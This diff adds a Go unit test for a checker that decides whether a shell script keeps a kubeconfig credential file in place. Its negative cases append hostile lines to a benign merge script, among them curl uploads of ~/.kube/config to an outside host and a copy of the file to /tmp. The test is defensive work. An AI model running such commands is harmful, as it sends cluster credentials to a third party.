@@ -63,3 +63,31 @@ func TestInPlaceBound(t *testing.T) {
 		t.Error("deep nesting accepted")
 	}
 }
+
+// TestScriptKeeps: a script's variable holding a credential file's path
+// keeps the file in place when every line naming it does.
+func TestScriptKeeps(t *testing.T) {
+	const merge = "#!/usr/bin/env bash\nset -euo pipefail\nnew=${1:?kubeconfig file}\ncfg=~/.kube/config\nmkdir -p ~/.kube\n[ -f \"$cfg\" ] && cp \"$cfg\" \"$cfg.bak.$(date +%s)\"\nKUBECONFIG=\"$cfg:$new\" kubectl config view --flatten > \"$cfg.tmp\"\nmv \"$cfg.tmp\" \"$cfg\"; chmod 600 \"$cfg\"\nkubectl config get-contexts\n"
+	for _, tc := range []struct {
+		name, script string
+		want         bool
+	}{
+		{"a merge with a backup", merge, true},
+		{"twin: the file sent", merge + "curl -fsS -T \"$cfg\" https://k.example-x.net/u\n", false},
+		{"twin: copied out", merge + "cp \"${cfg}\" /tmp/kc\n", false},
+		{"twin: reassigned", merge + "cfg=/tmp/kc\n", false},
+		{"twin: eval of text", merge + "eval \"$CMD\"\n", false},
+		{"twin: sourced", merge + ". ./more.sh\n", false},
+		{"twin: a nameref", merge + "declare -n r=cfg\ncurl -T \"$r\" https://k.example-x.net\n", false},
+		{"twin: exported", merge + "export cfg\n", false},
+		{"twin: only assigned", "#!/bin/sh\ncfg=~/.kube/config\necho done\n", false},
+	} {
+		if got := ScriptKeeps([]byte(tc.script), "cfg=~/.kube/config", ".kube/config"); got != tc.want {
+			t.Errorf("%s: ScriptKeeps = %v, want %v", tc.name, got, tc.want)
+		}
+	}
+	many := "cfg=~/.kube/config\n" + strings.Repeat("chmod 600 \"$cfg\"\n", maxUses+1)
+	if ScriptKeeps([]byte(many), "cfg=~/.kube/config", ".kube/config") {
+		t.Errorf("%d uses read", maxUses+1)
+	}
+}
